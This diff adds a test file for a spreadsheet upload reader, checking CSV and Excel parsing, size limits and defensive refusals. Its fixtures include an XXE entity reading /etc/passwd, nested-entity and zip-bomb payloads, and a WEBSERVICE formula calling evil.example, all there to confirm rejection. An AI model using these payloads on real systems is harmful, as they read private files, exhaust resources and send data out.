@@ -1,0 +1,110 @@
+import { strToU8, zipSync } from "fflate";
+import { describe, expect, test } from "vitest";
+import { textRow, workbook } from "#test/support/workbook.ts";
+import { readCsv } from "./read-csv.ts";
+import { readSheet } from "./read-sheet.ts";
+import { readWorkbook } from "./read-workbook.ts";
+
+const csv = (text: string) => readCsv(new TextEncoder().encode(text));
+
+describe("CSV", () => {
+  test("rows are numbered as a spreadsheet numbers them, whatever the separator and line breaks are", () => {
+    const { headings, rows } = csv(
+      '\uFEFFGuest;Phone\r\n\r\n"Asha; Mehta";"+91 90000"\r\n"two\nlines";1\r\n',
+    );
+    expect(headings).toEqual(["Guest", "Phone"]);
+    expect(rows).toEqual([
+      { row: 3, cells: ["Asha; Mehta", "+91 90000"] },
+      { row: 4, cells: ["two\nlines", "1"] },
+    ]);
+    expect(csv("a\tb\n1\t2\n").rows).toEqual([{ row: 2, cells: ["1", "2"] }]);
+  });
+
+  test("a formula is text, also as our own files keep it from being one", () => {
+    expect(csv(`a,b,c,d\n=1+1,'=HYPERLINK("x"),@sum,-3\n`).rows[0]?.cells).toEqual([
+      "=1+1",
+      '=HYPERLINK("x")',
+      "@sum",
+      "-3",
+    ]);
+  });
+
+  test("files of older spreadsheets have their letters", () => {
+    expect(readCsv(new Uint8Array([97, 10, 0xe9])).rows[0]?.cells).toEqual(["é"]);
+    expect(readCsv(new Uint8Array([0xff, 0xfe, 97, 0, 10, 0, 98, 0])).rows[0]?.cells).toEqual(["b"]);
+  });
+
+  test.each([
+    ["", "The file is empty"],
+    ["\n\n", "The file is empty"],
+    ["a,b\n", "The file has headings and no rows below them"],
+    ["a\u0000b\n", "This is neither a CSV nor an Excel file (.xlsx)"],
+    ["a,".repeat(101) + "b\n1\n", "The file has more than 100 columns"],
+    [`a\n${"1\n".repeat(100_000)}`, "The file has more than 5,000 rows. Please split it into several files"],
+    [
+      `a,b\n"${"x".repeat(300_000)}`,
+      "This CSV file could not be read. Save it once more as CSV, or as .xlsx",
+    ],
+  ])("%# says in words why not", (text, why) => {
+    expect(() => csv(text)).toThrow(why);
+  });
+});
+
+describe("Excel", () => {
+  test("takes texts, numbers, dates, and what a formula came to", () => {
+    const rows =
+      textRow(1, ["A", "B", "C", "D", "E", "F", "G", "H"]) +
+      `<row r="4"><c r="A4" t="s"><v>0</v></c><c r="B4" t="s"><v>1</v></c><c r="C4"><v>9.19E9</v></c>` +
+      `<c r="D4" s="1"><v>46370</v></c><c r="E4" s="2"><v>46370.75</v></c>` +
+      `<c r="F4" t="str"><f>WEBSERVICE("http://evil.example")</f><v>told</v></c><c r="G4" t="e"><v>#REF!</v></c>` +
+      `<c r="H4" t="b"><v>1</v></c></row>`;
+    const { rows: read } = readWorkbook(workbook(rows));
+    const cells = ["Shared & told", "Rich text", "9190000000", "2026-12-14", "2026-12-14", "told", "", "yes"];
+    expect(read).toEqual([{ row: 4, cells }]);
+  });
+
+  test("a million empty rows and columns are none", () => {
+    const empty = `<row r="3">${'<c s="1"/>'.repeat(5_000)}<c r="XFD3"><v>1</v></c></row>`;
+    const many = '<row><c s="1"/></row>'.repeat(50_000);
+    const { rows } = readWorkbook(workbook(textRow(1, ["A"]) + textRow(2, ["x"]) + empty + many));
+    expect(rows).toEqual([{ row: 2, cells: ["x"] }]);
+  });
+
+  const oneRow = textRow(1, ["A"]) + textRow(2, ["x"]);
+  const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst><si><t>&e;</t></si></sst>`;
+  const lol = `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><sst><si><t>&b;</t></si></sst>`;
+  test.each([
+    ["an external entity", workbook(oneRow, { "xl/sharedStrings.xml": entity }), "not as Excel writes it"],
+    ["entities within entities", workbook(oneRow, { "xl/sharedStrings.xml": lol }), "not as Excel writes it"],
+    ["broken XML", workbook(oneRow, { "xl/styles.xml": "<a><b></a>" }), "This Excel file is damaged"],
+    ["no sheet", workbook(oneRow, { "xl/workbook.xml": "<workbook/>" }), "This Excel file has no sheet"],
+    ["another ZIP", zipSync({ "a.xml": strToU8("<a/>") }), "This is no Excel file (.xlsx)"],
+    ["100,000 rows", workbook(oneRow.repeat(50_000)), "more than 5,000 rows"],
+    ["a bomb", zipSync({ "xl/workbook.xml": new Uint8Array(70_000_000) }), "too large to be read here"],
+  ])("%s is refused in words", (_, bytes, why) => {
+    expect(() => readWorkbook(bytes)).toThrow(why);
+  });
+
+  test("a bomb that lies about its size unpacks to what it says", () => {
+    const bytes = zipSync({ "xl/workbook.xml": new Uint8Array(20_000_000) });
+    const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+    const directory = bytes.length - 22 - (46 + "xl/workbook.xml".length);
+    expect(view.getUint32(directory + 24, true)).toBe(20_000_000);
+    view.setUint32(directory + 24, 100, true);
+    expect(() => readWorkbook(bytes)).toThrow(/damaged|no Excel file/);
+  });
+});
+
+test("files are read in a thread of their own, which ends with what it may use", async () => {
+  const [sheet, old] = await Promise.all([
+    readSheet(new TextEncoder().encode("a\n1\n")),
+    readSheet(new Uint8Array([0xd0, 0xcf, 0x11])).catch((error: unknown) => error),
+  ]);
+  expect(sheet.rows).toEqual([{ row: 2, cells: ["1"] }]);
+  expect(old).toMatchObject({
+    code: "wrong_type",
+    message: "This is an .xls file. Save it as .xlsx or as CSV, please",
+  });
+  const hungry = workbook(textRow(1, ["A"]) + '<row><c s="1"/></row>'.repeat(100_000));
+  await expect(readSheet(hungry, 1)).rejects.toMatchObject({ code: "wrong_type" });
+});
